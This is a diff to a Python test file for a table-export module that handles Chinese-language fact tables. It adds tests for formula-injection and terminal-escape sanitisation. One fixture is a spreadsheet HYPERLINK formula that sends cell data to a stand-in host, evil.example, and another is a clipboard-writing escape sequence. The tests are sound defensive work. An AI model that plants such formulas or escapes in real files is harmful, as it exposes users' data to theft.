@@ -105,7 +105,7 @@ def test_xlsx_has_chinese_headers_a_frozen_row_and_cjk_widths(facts, tmp_path):
     path = tmp_path / "facts.xlsx"
     write_table(facts, path)
     ws = load_workbook(path).active
-    assert ws.title == "Sheet1"
+    assert ws.title == "数值事实"   # named after what it holds, never "Sheet1"
     headers = [c.value for c in ws[1]]
     assert headers == [CHINESE_HEADERS[c] for c in facts.columns]
     assert headers[:3] == ["事实编号", "原文", "数值"]
@@ -175,3 +175,102 @@ def test_rich_table_shows_chosen_columns_and_joins_lists(facts):
     assert "近4.5万元" in text and "3；4" in text and "indicator" not in text
     with pytest.raises(ExportError, match="no such column: nope"):
         render_table(facts, columns=["nope"])
+
+
+# --- one rule for coded values -------------------------------------------------
+
+def test_xlsx_shows_coded_values_in_chinese_and_data_formats_keep_the_codes(tmp_path):
+    from openpyxl import load_workbook
+
+    df = pd.DataFrame({"surface": ["1000多人", "10%"], "approx": ["more_than", "exact"],
+                       "role": ["actual", "target"], "kind": ["count", "percent"],
+                       "aspect": ["level", "increase"]})
+    write_table(df, tmp_path / "f.xlsx")
+    ws = load_workbook(tmp_path / "f.xlsx").active
+    assert [c.value for c in ws[2]][1:] == ["多于", "实际", "数量", "水平"]
+    assert [c.value for c in ws[3]][1:] == ["精确", "目标", "百分比", "增加"]
+    out = io.StringIO()
+    write_table(df, fmt="jsonl", stream=out)
+    assert json.loads(out.getvalue().splitlines()[0])["approx"] == "more_than"
+    out = io.StringIO()
+    write_table(df, fmt="csv", stream=out)
+    assert "more_than,actual,count,level" in out.getvalue()
+
+
+# --- hostile text in exports -----------------------------------------------------
+
+FORMULA = '=HYPERLINK("http://evil.example/?d="&S3,"点击查看详情")'
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_sentence_that_starts_like_a_formula_is_text_in_csv(start):
+    df = pd.DataFrame({"sentence": [start + "SUM(A1:A9)，投入30万元。"], "value": [-3.0]})
+    out = io.StringIO()
+    write_table(df, fmt="csv", stream=out)
+    import csv
+
+    [header, (sentence, value)] = list(csv.reader(io.StringIO(out.getvalue().lstrip("\ufeff"))))
+    assert not sentence.startswith(("=", "+", "-", "@", "\t", "\r"))
+    assert sentence.endswith("SUM(A1:A9)，投入30万元。")
+    assert value == "-3.0"   # numbers are numbers: no quote before a minus sign
+
+
+def test_a_formula_in_document_text_is_never_a_formula_cell_in_xlsx(tmp_path):
+    from openpyxl import load_workbook
+
+    df = pd.DataFrame({"sentence": [FORMULA, "@SUM(1+1)", "+1+1"], "value": [1.0, 2.0, -3.0]})
+    write_table(df, tmp_path / "f.xlsx")
+    ws = load_workbook(tmp_path / "f.xlsx").active
+    cells = [ws.cell(row=r, column=1) for r in (2, 3, 4)]
+    assert all(c.data_type == "s" for c in cells)
+    assert [c.value for c in cells] == ["'" + FORMULA, "'@SUM(1+1)", "'+1+1"]
+    assert ws.cell(row=4, column=2).value == -3
+
+
+def test_xml_illegal_characters_are_dropped_from_xlsx(tmp_path):
+    from openpyxl import load_workbook
+
+    df = pd.DataFrame({"sentence": ["投入\uffff30万元\x0b，\ufffe完成\x00。"]})
+    write_table(df, tmp_path / "f.xlsx")
+    assert load_workbook(tmp_path / "f.xlsx").active["A2"].value == "投入30万元，完成。"
+
+
+def test_a_failing_export_leaves_the_old_file_untouched(tmp_path, monkeypatch):
+    import summarylab.export as export
+
+    path = tmp_path / "facts.xlsx"
+    path.write_bytes(b"the official's workbook")
+
+    def broken(*_a, **_k):
+        raise OSError(28, "No space left on device")
+
+    monkeypatch.setattr(export, "_xlsx_value", broken)
+    with pytest.raises(OSError):
+        write_table(pd.DataFrame({"sentence": ["投入30万元。"]}), path)
+    assert path.read_bytes() == b"the official's workbook"
+    assert [p.name for p in tmp_path.iterdir()] == ["facts.xlsx"]   # no temporary left
+
+
+@pytest.mark.parametrize("fmt", ["jsonl", "csv", "parquet", "xlsx"])
+def test_every_format_replaces_the_file_whole(fmt, tmp_path):
+    path = tmp_path / f"out.{fmt}"
+    path.write_bytes(b"old")
+    write_table(pd.DataFrame({"indicator": ["培训人数"], "value": [400.0]}), path)
+    assert path.read_bytes() != b"old" and [p.name for p in tmp_path.iterdir()] == [path.name]
+
+
+def test_terminal_escapes_in_table_cells_are_made_visible():
+    df = pd.DataFrame({"title": ["标题\x1b]52;c;ZXZpbA==\x07正文\x9b31m"]})
+    console = Console(width=100, color_system=None, record=True)
+    console.print(render_table(df))
+    text = console.export_text()
+    assert "\x1b" not in text and "\x9b" not in text and "\x07" not in text
+    assert "标题␛]52;c;ZXZpbA==␇正文" in text
+
+
+def test_jsonl_escapes_c1_controls_and_stays_json():
+    out = io.StringIO()
+    write_table(pd.DataFrame({"s": ["a\x9b31mb\x1bc"]}), fmt="jsonl", stream=out)
+    line = out.getvalue()
+    assert "\x9b" not in line and "\x1b" not in line
+    assert json.loads(line) == {"s": "a\x9b31mb\x1bc"}
